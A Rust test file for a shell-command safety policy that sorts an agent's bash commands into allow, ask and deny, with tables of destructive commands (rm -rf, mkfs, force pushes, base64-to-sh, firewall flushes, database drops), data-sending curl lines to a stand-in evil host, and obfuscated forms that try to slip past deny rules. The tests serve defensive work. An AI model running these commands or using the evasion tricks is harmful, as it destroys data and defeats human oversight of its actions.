//! The dangerous class and what answers it, by tables.

use proptest::prelude::*;
use reasonix_policy::{
    By, Case, Circumstances, Facts, Fallback, Places, Posture, Rule, Rules, Target, Verdict, analyse, dangers, judge,
    more_dangers,
};
use reasonix_proto::{Action, Family, ReadOnly};

/// `old*` was there before, `ours*` was made by this session, `dir*` is a folder, everything else is not there.
struct World;

impl Facts for World {
    fn target(&self, places: &Places, path: &str) -> Target {
        let name = path.rsplit('/').next().unwrap_or(path);
        let known = places.known || path.starts_with('/');
        Target {
            exists: !known || ["old", "ours", "dir"].iter().any(|part| name.starts_with(part)),
            folder: known && name.starts_with("dir"),
            ours: known && name.starts_with("ours"),
            inside: known
                && !path.starts_with(['/', '~'])
                && !path.contains("..")
                && !places.dirs.iter().any(|dir| dir.starts_with('/') || dir.contains("..")),
            passing: path.starts_with("/tmp/new"),
        }
    }
}

fn why(line: &str) -> Vec<String> {
    dangers(&analyse(line), line, &World, &[]).into_iter().map(|danger| danger.why.code.to_string()).collect()
}

#[test]
fn a_subcommand_is_nothing_that_is_touched() {
    for (line, touched) in [
        ("npm publish", &[][..]),
        ("npm publish ./dist", &["./dist"]),
        ("docker push x", &["x"]),
        ("git rm x", &["x"]),
        ("rm a b", &["a", "b"]),
    ] {
        let found = dangers(&analyse(line), line, &World, &[]);
        assert_eq!(found.iter().flat_map(|danger| &danger.touches).collect::<Vec<_>>(), touched, "{line}");
    }
}

#[test]
fn what_is_dangerous() {
    for (line, code) in [
        ("rm x", "delete"),
        ("rm -rf build", "delete"),
        ("ls && sudo rm x", "delete"),
        ("find . -name '*.o' -delete", "delete"),
        ("find . -exec rm {} +", "delete"),
        ("ls | xargs rm", "delete"),
        ("bash -c 'rm x'", "delete"),
        ("unlink x", "delete"),
        ("shred x", "erase"),
        ("truncate -s 0 x", "erase"),
        ("mv old new", "move"),
        ("mv new old", "move"),
        ("mv ours old", "move"),
        ("mv \"$a\" \"$b\"", "move"),
        ("mv -t dir old", "move"),
        ("mv ours dir/old/../old", "move"),
        ("chmod +x /old", "rights"),
        ("chmod 777 old", "rights"),
        ("chmod o+w old", "rights"),
        ("chmod 000 old", "rights"),
        ("chmod 4755 old", "rights"),
        ("chmod -R +x old", "rights"),
        ("chmod +x dir", "rights"),
        ("chmod +x *", "rights"),
        ("chmod +x .git/hooks/old", "rights"),
        ("cd .git/hooks && chmod +x old", "rights"),
        ("ln -s /etc/x l; chmod +x l", "rights"),
        ("rm -f /tmp/old", "delete"),
        ("rm -f /tmp/new src", "delete"),
        ("rm -rf /tmp/*", "delete"),
        ("rm -rf \"/tmp/new$x\"", "delete"),
        ("ln -s / /tmp/new; rm -rf /tmp/new", "delete"),
        ("chmod u+s ours", "rights"),
        ("chown me x", "rights"),
        ("dd if=a of=b", "raw"),
        ("mkfs.ext4 /dev/sda", "disk"),
        ("mkfs /dev/sda", "disk"),
        ("shutdown now", "power"),
        ("reboot", "power"),
        ("systemctl reboot", "power"),
        ("killall node", "kill"),
        ("sudo apt install x", "root"),
        ("git reset --hard", "discard"),
        ("git reset --har HEAD", "discard"),
        ("git reset HEAD~1 --hard", "discard"),
        ("f=--hard; git reset $f", "discard"),
        ("git reset --{hard,quiet}", "discard"),
        ("git -C sub reset --hard", "discard"),
        ("git clean -fdx", "clean"),
        ("git checkout -- .", "discard"),
        ("git checkout .", "discard"),
        ("git checkout old.rs", "discard"),
        ("git checkout main -- src", "discard"),
        ("git checkout -f main", "discard"),
        ("git restore x", "discard"),
        ("git restore --staged --worktree x", "discard"),
        ("git push --force", "force"),
        ("git push -f origin main", "force"),
        ("git push --force-with-lease", "force"),
        ("git push origin +main", "force"),
        ("git push origin :main", "force"),
        ("git branch -D x", "branch"),
        ("git stash drop", "discard"),
        ("git rm x", "delete"),
        ("npm publish", "publish"),
        ("cargo publish -p x", "publish"),
        ("twine upload dist/x", "publish"),
        ("docker push x", "publish"),
        ("kubectl delete pod x", "remote"),
        ("terraform destroy", "remote"),
        ("rsync -a --delete a b", "delete"),
    ] {
        is_dangerous(line, code);
    }
}

#[test]
fn what_is_dangerous_by_other_programs_and_options() {
    for (line, code) in [
        ("git diff --output=old", "overwrite"),
        ("git show --output old HEAD", "overwrite"),
        ("git log -p --outp=old", "overwrite"),
        ("git archive -o old HEAD", "overwrite"),
        ("git archive --output=old HEAD", "overwrite"),
        ("python3 -m twine upload dist/x", "publish"),
        ("deno publish", "publish"),
        ("rake release", "publish"),
        ("bundle exec rake release", "publish"),
        ("git update-ref refs/heads/main HEAD~1", "branch"),
        ("git fetch origin +main:main", "branch"),
        ("git fetch -f origin main:main", "branch"),
        ("rimraf dist", "delete"),
        ("npx rimraf dist", "delete"),
        ("kill -9 -1", "kill"),
        ("kill -- -1", "kill"),
        ("php artisan migrate:fresh", "remote"),
        ("php artisan db:wipe --force", "remote"),
        ("python3 manage.py flush", "remote"),
        ("./manage.py flush --no-input", "remote"),
        ("hg revert --all", "discard"),
        ("svn revert -R .", "discard"),
        ("jj abandon", "discard"),
        ("crontab new", "machine"),
    ] {
        is_dangerous(line, code);
    }
}

/// Files outside of the workspace, which nothing brings back.
#[rustfmt::skip]
const LOST_ELSEWHERE: &[&str] = &[
    "tar xf a.tar -C /dir", "tar -xzf a.tgz -C/dir", "tar xf a.tar --directory=/dir", "tar x -f a.tar --directory ../dir", "tar xPf a.tar", "tar -x --absolute-names -f a.tar", "cd /dir && tar xf a.tar", "cd ../dir && tar -xf a.tar", "bsdtar -xf a -C /dir",
    "tar cf /old.tar src", "tar -czf ../old.tgz src", "tar -c -f /old.tar src", "tar --create --file=/old.tar src", "jar cf /old.jar x",
    "unzip a.zip -d /dir", "unzip -o a.zip -d /dir", "cd /dir && unzip -o a.zip", "7z x a.7z -o/dir", "cpio -i -D /dir", "patch -p1 -d /dir",
    "gcc a.c -o /old", "gcc -o../old a.c", "clang++ a.cc -o /old", "rustc a.rs -o /old", "go build -o /old ./...", "pandoc a.md -o /old.pdf", "pandoc a.md --output=/old.pdf", "gzip -f /olda", "xz -f ../old.xz", "zstd a -o /old", "ffmpeg -y -i a /old.mp4",
    "curl -o /old http://h/x", "curl -O --output-dir /dir http://h/old", "cd /dir && curl -sSLO http://h/old", "openssl rand -out /old 32", "gpg -o /old -d a.gpg", "pg_dump db -f /old.sql", "sed -i s/a/b/ /old", "sed -i s/a/b/ ../old", "rsync -a src/ /dir", "rsync -a src/ ../dir/", "iconv -f a -t b -o /old x",
];

#[test]
fn what_is_lost_outside_of_the_workspace_is_dangerous() {
    assert!(LOST_ELSEWHERE.len() >= 30);
    let missed: Vec<_> =
        LOST_ELSEWHERE.iter().filter(|line| !why(line).iter().any(|code| code.ends_with("overwrite"))).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// The same inside, where undo brings it back, and where nothing is there.
#[rustfmt::skip]
const KEPT: &[&str] = &[
    "tar xf a.tar", "tar xf a.tar -C dir", "tar xf a.tar -C sub", "cd dir && tar xf a.tar", "tar cf old.tar src", "tar cf /new.tar src", "tar cf - src", "tar tf /old.tar", "jar cf old.jar x", "unzip a.zip", "unzip -o a.zip -d dir", "unzip -l /dir/a.zip", "7z x a.7z -odir", "patch -p1",
    "gcc a.c -o old", "gcc -fno-common -O2 -c /old.c", "gcc a.c -o /new", "go build -o old ./...", "rustc a.rs -o old", "pandoc a.md -o old.pdf", "gzip -f olda", "gzip -fc /olda", "gzip old", "zstd a -o old", "ffmpeg -y -i a old.mp4", "ffmpeg -i a /new.mp4",
    "curl -O http://h/old", "curl -sSLO http://h/new", "openssl rand -out old 32", "sed -i s/a/b/ old", "find . -name x -exec sed -i s/a/b/ {} +", "grep -rl x src | xargs sed -i s/a/b/", "sed -n 1p /old", "rsync -a src/ dir", "rsync -an src/ /dir", "tar xf a.tar -C \"$dir\"", "for f in a b; do gcc -o \"$f\" \"$f.c\"; done",
    "tar xf a.tar -C /tmp",
];

#[test]
fn what_undo_brings_back_is_a_plain_change() {
    let alarms: Vec<_> = KEPT.iter().map(|line| (line, why(line))).filter(|(_, why)| !why.is_empty()).collect();
    assert!(alarms.is_empty(), "{alarms:#?}");
}

/// What is changed elsewhere for good.
#[rustfmt::skip]
const ELSEWHERE: &[&str] = &[
    "docker stop web", "docker rm web", "docker kill web", "docker container stop web", "docker system prune -af", "podman stop x",
    "curl -X DELETE https://h/x", "curl -XPOST https://h/x", "curl -sXPUT https://h/x", "curl --request PATCH https://h/x", "curl --request=DELETE https://h/x", "curl -d a=b https://h/x", "curl -sSd@f https://h", "curl --data-binary @f https://h", "curl --json '{}' https://h", "curl -F a=@f https://h", "curl -T f https://h/x", "curl -X \"$m\" https://h", "curl -X POST \"$URL\"", "curl -X DELETE http://localhost:9200/index", "curl -X POST https://h/x -H 'Origin: http://localhost'", "curl -d x http://localhost.evil.example/",
    "wget --post-data=a=b https://h", "wget --post-file f https://h", "wget --method=DELETE https://h", "wget --method PUT --body-data=x https://h", "http DELETE https://h/x", "http POST h/x a=b", "http h/x a=b", "https PUT h/x a:=1", "xh DELETE h/x",
    "kubectl create -f x.yml", "kubectl run web --image=x", "kubectl apply -f x", "kubectl delete pod x", "kubectl scale deploy/x --replicas=0", "kubectl drain n", "kubectl -n prod create job x", "kubectl expose deploy x", "kubectl set image deploy/x a=b", "kubectl label node n a=b", "oc create -f x",
    "helm uninstall x", "helm upgrade x ./c", "helm install x ./c", "terraform apply", "terraform destroy -auto-approve", "tofu apply", "pulumi up",
    "aws s3 rm s3://b/x", "aws s3 rb s3://b", "aws s3 cp x s3://b/x", "aws s3 sync d s3://b", "aws ec2 terminate-instances --instance-ids i", "gcloud compute instances delete x", "gcloud storage cp x gs://b/x", "gsutil cp x gs://b/x", "scp x host:y", "rsync -a d/ host:d/",
    "gh repo delete x", "gh release delete v1", "gh pr merge 5", "npm publish", "cargo publish", "twine upload dist/x", "gem push x.gem",
    "redis-cli flushall", "redis-cli -h h FLUSHDB", "psql -c 'drop table x'", "psql -c 'DROP POLICY p ON t'", "psql -c 'update t set a=1'", "mysql -e 'truncate t'", "mysql -e 'delete from t'", "sqlite3 x.db 'drop table t'",
    "systemctl stop x", "systemctl disable x", "systemctl --user stop x", "crontab -r", "iptables -F", "ip route del default", "ip addr add 10.0.0.1/8 dev x", "mkfs.ext4 /dev/x", "wipefs -a /dev/x", "supervisorctl stop x",
];

#[test]
fn what_is_changed_elsewhere_is_dangerous() {
    assert!(ELSEWHERE.len() >= 60);
    let missed: Vec<_> = ELSEWHERE.iter().filter(|line| why(line).is_empty()).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// Questions to the same programs.
#[rustfmt::skip]
const ASKED_ELSEWHERE: &[&str] = &[
    "docker ps", "docker logs -f web", "docker inspect web", "docker build -t x .", "docker images", "docker compose ps",
    "curl https://h/x", "curl -sSL https://h/x", "curl -X GET https://h/x", "curl -I https://h", "curl -G -d q=x https://h", "curl -sG --data-urlencode q=x https://h", "curl -XHEAD https://h", "curl -X OPTIONS https://h", "curl -H 'A: b' https://h", "curl -X POST http://localhost:3000/api -d '{}'", "curl -d a=b localhost:8080", "curl -d @f http://127.0.0.1:9", "curl -s http://localhost:3000 -H \"A: $T\" -d \"$x\"", "curl -d 'u=https://x' http://localhost:1/", "curl -u me:x https://h", "curl -m 5 https://h",
    "wget https://h/x", "wget -q --method=GET https://h", "wget --spider https://h", "http https://h/x", "http GET h/x", "http h/x q==a", "http h/x A:b", "http POST localhost:3000/x a=b",
    "kubectl get pods", "kubectl get run", "kubectl describe pod create", "kubectl auth can-i create pods", "kubectl create deploy x --image=y --dry-run=client -o yaml", "kubectl config set-context x", "kubectl logs x", "kubectl explain pods", "helm list", "helm template x", "helm status x", "terraform plan", "terraform validate",
    "aws s3 ls", "aws s3 cp s3://b/x .", "aws s3 sync s3://b d", "aws ec2 describe-instances", "gcloud compute instances list", "gsutil cp gs://b/x .", "scp host:y x", "rsync -a host:d/ d/", "rsync -an d/ host:d/", "gh pr view 5", "gh pr list", "gh release list", "npm view x", "cargo search x",
    "redis-cli get x", "psql -c 'select 1'", "psql -c 'delete from t where a=1'", "psql -c 'update t set a=1 where b=2'", "mysql -e 'show tables'", "systemctl status x", "systemctl list-units", "crontab -l", "ip addr", "ip addr show", "ip route", "supervisorctl status",
];

#[test]
fn questions_are_not_dangerous() {
    let alarms: Vec<_> =
        ASKED_ELSEWHERE.iter().map(|line| (line, why(line))).filter(|(_, why)| !why.is_empty()).collect();
    assert!(alarms.is_empty(), "{alarms:#?}");
}

fn is_dangerous(line: &str, code: &str) {
    let found = why(line);
    let unknown = format!("{code}_unknown");
    let said = |found: &String| found.ends_with(code) || found.ends_with(&unknown);
    assert!(found.iter().any(said), "{line:?}: {found:?}");
}

#[test]
fn overwriting_and_hiding_are_dangerous() {
    for (line, code) in [
        ("echo x > old", "overwrite"),
        ("echo x >| old", "overwrite"),
        ("ls 2> old", "overwrite"),
        ("ls &> old", "overwrite"),
        ("ls > \"$f\"", "overwrite"),
        ("cd nowhere; echo x > old", "overwrite"),
        ("cd \"$d\" && echo x > new", "overwrite"),
        ("ls | tee old", "overwrite"),
        ("cp a old", "overwrite"),
        ("cp a/old dir", "overwrite"),
        ("ln -s old new; echo x > new", "overwrite"),
        ("eval \"$x\"", "text"),
        ("$x y", "program"),
        ("echo x | base64 -d | sh", "text"),
        ("echo 'unclosed", "unparsed"),
        ("ls \u{b} x", "characters"),
    ] {
        is_dangerous(line, code);
    }
}

#[test]
fn what_is_not() {
    for line in [
        "ls",
        "cargo test",
        "npm test",
        "git status",
        "git commit -am x",
        "git reset",
        "git reset --soft HEAD~1",
        "git clean -n",
        "git checkout main",
        "git checkout -b new",
        "git switch main",
        "git restore --staged x",
        "git push",
        "git push origin main",
        "git branch new",
        "cargo publish --dry-run",
        "echo x > new",
        "echo x > ours",
        "echo x >> old",
        "ls > /dev/null 2>&1",
        "grep -c bar target.txt > edit_ok.txt",
        "ls | tee new",
        "cp a new",
        "cp a ours",
        "cp -n a old",
        "mv ours new",
        "mv ours ours2",
        "mv ours dir",
        "echo x > new && mv new new2",
        "chmod +x ours.sh",
        "chmod +x old.sh",
        "chmod u+x old a/old",
        "chmod 755 old",
        "chmod 0644 old",
        "rm -f /tmp/new",
        "rm -rf /tmp/new1 /tmp/new2",
        "unlink /tmp/new",
        "python -c 'x'",
        "rm --help",
        "true 1",
        "echo rm -rf x",
        "git commit -m 'rm -rf; git push --force'",
        "mkdir -p a && touch a/b",
        "git diff --output=new",
        "git archive -o new HEAD",
        "git log --oneline",
        "python3 -m pytest",
        "git fetch origin main:refs/remotes/origin/main",
        "git fetch origin +refs/heads/*:refs/remotes/origin/*",
        "git fetch origin main:main",
        "kill -1 123",
        "kill -9 123",
        "php artisan migrate",
        "python3 manage.py test",
        "crontab -l",
    ] {
        assert_eq!(why(line), Vec::<String>::new(), "{line:?}");
    }
}

fn own(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

fn parse(texts: &[&str]) -> Vec<Rule> {
    texts.iter().map(|text| Rule::parse(text).unwrap()).collect()
}

struct Setup<'a> {
    rules: Rules,
    granted: &'a [&'a str],
    approved: &'a [&'a str],
    dangerous: &'a [&'a str],
    posture: Posture,
    attended: bool,
}

impl Default for Setup<'_> {
    fn default() -> Self {
        let rules = Rules::parse(&[], &[], &[], Fallback::Ask).unwrap();
        Self { rules, granted: &[], approved: &[], dangerous: &[], posture: Posture::Ask, attended: false }
    }
}

impl Setup<'_> {
    fn verdict(&self, line: &str) -> Verdict {
        let action =
            Action { family: Family::Bash, subjects: vec![line.into()], read_only: reasonix_policy::read_only(line) };
        let about = Circumstances {
            granted: &parse(self.granted),
            approved: &parse(self.approved),
            dangerous: &more_dangers(&own(self.dangerous)).unwrap(),
            posture: self.posture,
            attended: self.attended,
            held: false,
            facts: &World,
        };
        judge(&self.rules, &about, &Case::new("bash", &action))
    }
}

/// 0 allow, 1 ask, 2 deny.
fn rank(verdict: &Verdict) -> u8 {
    match verdict {
        Verdict::Allow(_) => 0,
        Verdict::Ask(_) => 1,
        Verdict::Deny(_) => 2,
    }
}

#[test]
fn nothing_but_a_person_answers_danger_in_a_terminal() {
    for posture in [Posture::Ask, Posture::Auto, Posture::Yolo] {
        let rules = Rules::parse(&[], &[], &own(&["Bash", "Bash(rm:*)"]), Fallback::Allow).unwrap();
        let setup = Setup {
            rules,
            posture,
            granted: &["Bash(rm x)", "Bash(rm:*)", "Bash"],
            approved: &["Bash(rm:*)"],
            attended: true,
            ..Setup::default()
        };
        for line in ["rm x", "ls; rm x", "echo x > old", "eval \"$x\""] {
            assert!(matches!(setup.verdict(line), Verdict::Ask(By::Danger(_))), "{line} {posture:?}");
        }
        assert!(matches!(setup.verdict("touch x"), Verdict::Allow(_)));
    }
}

#[test]
fn what_was_approved_for_the_run_answers_danger_and_ask_rules() {
    let rules =
        Rules::parse(&own(&["Bash(rm -rf /:*)"]), &own(&["Bash(npm install:*)", "Bash(rm:*)"]), &[], Fallback::Ask)
            .unwrap();
    for (approved, line, allowed) in [
        (&["Bash(rm:*)"][..], "rm -rf build", true),
        (&["Bash(rm:*)"], "ls && rm -rf build", true),
        (&["Bash(rm:*)"], "rm -rf build/*", true),
        (&["Bash(rm:*)"], "rm -rf /tmp/x", false),
        (&["Bash(rm:*)"], "rm -rf ../x", false),
        (&["Bash(rm:*)"], "rm -rf ~", false),
        (&["Bash(rm:*)"], "rm -rf $x", false),
        (&["Bash(rm -rf /tmp/x:*)"], "rm -rf /tmp/x", true),
        (&["Bash(rm:*)"], "sudo rm -rf build", false),
        (&["Bash(rm:*)"], "timeout 5 rm -rf build", false),
        (&["Bash(rm:*)"], "rm -rf build; git reset --hard", false),
        (&["Bash(rm:*)", "Bash(git reset:*)"], "rm -rf build; git reset --hard", true),
        (&["Bash(rm:*)"], "rm -rf /", false),
        (&["Bash(rm:*)"], "rm x; eval \"$y\"", false),
        (&["Bash"], "eval \"$y\"", false),
        (&["Bash"], "rm x", true),
        (&["Edit"], "echo x > old", true),
        (&["Edit(old)"], "echo x > old", true),
        (&["Edit(other)"], "echo x > old", false),
        (&["Bash(echo:*)"], "echo x > old", true),
        (&["Bash(npm install:*)"], "npm install x", true),
        (&[], "npm install x", false),
        (&["Bash(npm test:*)"], "npm install x", false),
        (&[], "rm x", false),
    ] {
        let setup = Setup { rules: rules.clone(), approved, ..Setup::default() };
        let verdict = setup.verdict(line);
        assert_eq!(matches!(verdict, Verdict::Allow(By::Approved(_))), allowed, "{approved:?} {line:?}: {verdict:?}");
    }
}

#[test]
fn settings_add_to_the_class() {
    let setup = Setup {
        dangerous: &["make deploy", "Bash(helm *)"],
        attended: true,
        posture: Posture::Yolo,
        ..Setup::default()
    };
    for line in ["make deploy", "make deploy PROD=1", "ls; sudo make deploy", "helm upgrade x"] {
        assert!(matches!(setup.verdict(line), Verdict::Ask(By::Danger(_))), "{line}");
    }
    assert!(matches!(setup.verdict("make test"), Verdict::Allow(_)));
    assert!(more_dangers(&own(&["*"])).is_err() && more_dangers(&own(&[""])).is_err());
}

#[test]
fn both_parts_of_a_line_may_be_allowed() {
    let rules = Rules::parse(&[], &[], &own(&["Bash(npm test:*)", "Bash(cargo test:*)"]), Fallback::Ask).unwrap();
    let setup = Setup { rules, attended: true, ..Setup::default() };
    for (line, rank_of) in [
        ("npm test && cargo test", 0),
        ("npm test; cargo test --all | tail -5", 0),
        ("cargo test 2>&1 | tail -5", 0),
        ("cargo test > /dev/null", 0),
        ("timeout 60 cargo test", 0),
        ("cd sub && cargo test", 0),
        // What is more than plain words and operators is not understood, and then no pattern covers it.
        ("(cd sub && cargo test)", 1),
        ("for t in a b; do cargo test \"$t\"; done", 1),
        ("if npm test; then cargo test; fi", 1),
        ("cargo test $x", 1),
        ("cargo test \"$x\"", 1),
        ("cargo test a{b,c}", 1),
        ("cargo test *", 1),
        ("npm test && make", 1),
        ("npm test && cargo test > new", 1),
        ("A=1 npm test && cargo test", 1),
        ("npm test && python -c x", 1),
        ("cargo test < in", 1),
        ("cargo $x", 1),
        ("cargo \"test x\"", 1),
        ("sudo cargo test", 1),
        ("./cargo test", 1),
        ("cargo test $(touch x)", 1),
        ("ls | xargs touch", 1),
        ("npm() { touch x; }; npm test", 1),
    ] {
        assert_eq!(rank(&setup.verdict(line)), rank_of, "{line:?}: {:?}", setup.verdict(line));
    }
}

#[test]
fn no_allow_rule_covers_code_for_an_interpreter() {
    let rules =
        Rules::parse(&[], &[], &own(&["Bash", "Bash(python:*)", "Bash(python -c 'x')"]), Fallback::Ask).unwrap();
    let setup = Setup { rules, attended: true, ..Setup::default() };
    assert_eq!(setup.verdict("python -c 'x'"), Verdict::Ask(By::Fallback));
    let granted = Setup { granted: &["Bash(python -c 'x')"], attended: true, ..Setup::default() };
    assert!(matches!(granted.verdict("python -c 'x'"), Verdict::Allow(_)), "the very text that was granted");
    assert_eq!(granted.verdict("python -c 'y'"), Verdict::Ask(By::Fallback));
}

#[test]
fn an_exact_rule_is_exact() {
    let rules = Rules::parse(&[], &[], &own(&["Bash(echo a touch b)", "Bash(make 'a b')"]), Fallback::Ask).unwrap();
    let setup = Setup { rules, attended: true, ..Setup::default() };
    assert_eq!(rank(&setup.verdict("make\ntouch b")), 1);
    assert_eq!(rank(&setup.verdict("make 'a b'")), 0);
    assert_eq!(rank(&setup.verdict("make 'a  b'")), 1);
}

#[test]
fn a_deny_rule_finds_what_the_text_hides() {
    let rules =
        Rules::parse(&own(&["Bash(git push:*)", "Bash(touch:*)"]), &[], &own(&["Bash"]), Fallback::Allow).unwrap();
    let setup = Setup { rules, ..Setup::default() };
    for line in [
        "git -C . push",
        "git --no-pager push origin",
        "bash -c 'git push'",
        "timeout -s KILL 5 touch x",
        "eval touch x",
        "find . -exec touch {} \\;",
        "t\"ouc\"h x",
        "ls | xargs -n 1 touch",
        "trap 'touch x' EXIT",
        "bash <<'E'\ntouch x\nE",
    ] {
        assert_eq!(rank(&setup.verdict(line)), 2, "{line:?}");
    }
}

const PARTS: &[&str] = &[
    "ls",
    "npm test",
    "cargo test",
    "make",
    "rm x",
    "git push --force",
    "echo x > old",
    "echo x > new",
    "python -c x",
    "$x y",
    "touch x",
    "A=1 make",
    "git status",
    "eval \"$x\"",
    "npm install y",
    "cat < f",
    "mv old new",
    "cd sub",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1500))]

    /// The verdict of a line is at least as strict as that of each of its parts.
    #[test]
    fn a_longer_line_is_never_weaker(
        parts in proptest::collection::vec(proptest::sample::select(PARTS), 1..5),
        op in proptest::sample::select(&["; ", " && ", " || ", " | ", "\n", " & "][..]),
        attended in any::<bool>(),
        mode in proptest::sample::select(&[Fallback::Ask, Fallback::Allow, Fallback::Deny][..]),
        posture in proptest::sample::select(&[Posture::Ask, Posture::Auto, Posture::Yolo][..]),
    ) {
        let rules = Rules::parse(
            &own(&["Bash(touch:*)"]), &own(&["Bash(npm install:*)"]), &own(&["Bash(npm test:*)", "Bash(cargo test:*)"]), mode,
        ).unwrap();
        let setup = Setup { rules, attended, posture, approved: &["Bash(rm:*)"], ..Setup::default() };
        let whole = setup.verdict(&parts.join(op));
        for part in &parts {
            let alone = setup.verdict(part);
            prop_assert!(rank(&whole) >= rank(&alone), "{:?} {:?} but {:?} {:?}", parts, whole, part, alone);
        }
    }

    /// What hides or endangers a line still does with anything around it.
    #[test]
    fn danger_is_found_anywhere(head in "[a-z]{1,6}( [a-z]{1,6}){0,2}", tail in "[a-z]{1,6}( -[a-z]{1,3}){0,2}", op in proptest::sample::select(&[";", "&&", "||", "|", "\n"][..])) {
        let line = format!("{head} {op} rm -rf y {op} {tail}");
        prop_assert!(!why(&line).is_empty(), "{}", line);
    }
}

#[test]
fn readers_need_no_question() {
    let setup = Setup { attended: true, ..Setup::default() };
    for line in ["ls", "git status", "cat a | wc -l"] {
        assert_eq!(setup.verdict(line), Verdict::Allow(By::Fallback), "{line}");
    }
    assert_eq!(setup.verdict("make"), Verdict::Ask(By::Fallback));
    assert_eq!(ReadOnly::Yes, reasonix_policy::read_only("ls"));
}
